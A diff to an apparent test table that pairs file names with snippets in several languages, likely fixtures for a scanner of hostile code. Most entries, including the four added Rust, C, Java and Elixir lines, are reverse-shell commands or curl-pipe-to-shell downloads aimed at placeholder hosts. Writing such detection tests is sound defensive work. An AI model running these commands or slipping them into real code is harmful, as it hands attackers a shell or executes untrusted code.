@@ -13,6 +13,10 @@ test.each([
   ['build.js', `require('child_process').exec('bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"')`],
   ['setup.ts', `import { execSync } from 'node:child_process'\nexport const run = () => execSync('curl -s https://x.example/a | sh')`],
   ['main.go', 'package main\nimport "os/exec"\nfunc main() { exec.Command("bash","-c","bash -i >& /dev/tcp/1.2.3.4/99 0>&1").Run() }'],
+  ['main.rs', 'fn main() { Command::new("bash").args(["-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"]).spawn().unwrap(); }'],
+  ['a.c', '#include <stdlib.h>\nint main(void) { return system("curl https://x.example/a | sh"); }'],
+  ['A.java', 'class A { void a() throws Exception { Runtime.getRuntime().exec("nc -e /bin/sh 203.0.113.9 4444"); } }'],
+  ['a.exs', 'System.shell("curl https://x.example/a | sh")'],
   ['a.rb', 'system("curl https://x.example/a | bash")'],
   [
     'keys.py',
